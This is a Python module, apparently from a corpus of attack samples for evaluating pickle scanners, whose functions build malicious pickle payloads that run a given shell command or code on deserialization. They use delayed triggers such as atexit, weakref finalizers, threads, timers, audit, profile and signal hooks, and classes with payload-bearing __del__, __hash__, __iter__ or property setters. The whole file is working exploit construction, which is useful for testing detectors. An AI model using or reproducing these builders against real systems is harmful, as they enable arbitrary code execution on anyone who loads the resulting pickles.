"""What runs later: at the process's end, at the next hook, when the object is used or thrown away."""

from __future__ import annotations

from corpus.assembler import EXEC, SYSTEM, Op, build, call, method, name, pickled, value
from corpus.entry import Place, Technique
from corpus.evaluation import any_arguments


def _atexit(place: Place) -> bytes:
    return pickled(call(name("atexit", "register"), SYSTEM, place.command))


def _finalize(place: Place) -> bytes:
    return pickled(
        call(name("weakref", "finalize"), call(name("collections", "OrderedDict")), EXEC, place.code, {})
    )


def _exit_stack(place: Place) -> bytes:
    stack = Op(call(name("contextlib", "ExitStack")) + b"q\x00")
    return pickled(method(stack, "callback", EXEC, place.code, {}) + b"0" + method(Op(b"h\x00"), "close"))


def _thread(place: Place) -> bytes:
    started = Op(call(name("threading", "Thread"), None, SYSTEM, None, (place.command,)) + b"q\x00")
    return pickled(method(started, "start") + b"0" + method(Op(b"h\x00"), "join"))


def _timer(place: Place) -> bytes:
    timer = Op(call(name("threading", "Timer"), 0, SYSTEM, (place.command,)) + b"q\x00")
    return pickled(method(timer, "start") + b"0" + method(Op(b"h\x00"), "join"))


def _pool(place: Place) -> bytes:
    pool = call(name("concurrent.futures", "ThreadPoolExecutor"), 1)
    return pickled(method(method(pool, "submit", SYSTEM, place.command), "result"))


def _audit_hook(place: Place) -> bytes:
    # Opening the file is an audited event too, so the function must know that it is running already.
    hook = any_arguments(place, once=True)
    return pickled(call(name("sys", "addaudithook"), hook) + b"0" + name("os", "getcwd"))


def _profile(place: Place) -> bytes:
    return pickled(
        call(name("sys", "setprofile"), any_arguments(place))
        + b"0"
        + call(name("textwrap", "dedent"), "x")
        + b"0"
        + call(name("sys", "setprofile"), None)
    )


def _displayhook(place: Place) -> bytes:
    return pickled(
        call(name("builtins", "setattr"), name("logging", "sys"), "unraisablehook", SYSTEM)
        + b"0"
        + call(name("sys", "unraisablehook"), place.command)
    )


def _del(place: Place) -> bytes:
    """Make an object of a new class whose finalizer is a partial."""
    final = call(name("functools", "partial"), EXEC, place.code)
    made = call(name("builtins", "type"), "X", (), {"__del__": final})
    return pickled(call(made) + b"0" + value(None))


def _hash(place: Place) -> bytes:
    """Run when the object becomes a key of a dictionary."""
    made = call(
        name("builtins", "type"), "X", (), {"__hash__": call(name("functools", "partial"), EXEC, place.code)}
    )
    return pickled(b"}" + call(made) + value(1) + b"s")


def _iteration(place: Place) -> bytes:
    """Run when an object is turned into a list."""
    final = call(name("functools", "partial"), EXEC, place.code)
    made = call(name("builtins", "type"), "X", (), {"__iter__": final})
    return pickled(call(name("builtins", "list"), call(made)))


def _signal(place: Place) -> bytes:

    return pickled(
        call(name("signal", "signal"), 10, any_arguments(place))
        + b"0"
        + call(name("signal", "raise_signal"), 10)
    )


def _reader_of_a_shelf(place: Place) -> bytes:
    """Set an attribute that is a property with a setter."""
    made = call(
        name("builtins", "type"),
        "X",
        (),
        {"x": call(name("builtins", "property"), None, any_arguments(place))},
    )
    return pickled(build(call(made), (None, {"x": 1})))


TECHNIQUES = [
    Technique("atexit", "delayed", "at the end of the process", _atexit),
    Technique("weakref finalizer", "delayed", "when an object goes", _finalize),
    Technique("ExitStack", "delayed", "when a stack is closed", _exit_stack),
    Technique("thread", "delayed", "in a thread", _thread),
    Technique("timer", "delayed", "in a thread, in a moment", _timer),
    Technique("thread pool", "delayed", "in a pool", _pool),
    Technique("audit hook", "delayed", "at the next audited event", _audit_hook),
    Technique("profile hook", "delayed", "at the next call", _profile),
    Technique("unraisable hook", "delayed", "a hook of the interpreter, replaced", _displayhook),
    Technique("finalizer of a class", "delayed", "when the pickle drops the object", _del),
    Technique("hash of a key", "delayed", "when a dictionary is filled", _hash),
    Technique("iterator of a class", "delayed", "when a list is made", _iteration),
    Technique("signal handler", "delayed", "when the signal comes", _signal),
    Technique("property", "delayed", "when BUILD sets it", _reader_of_a_shelf),
]
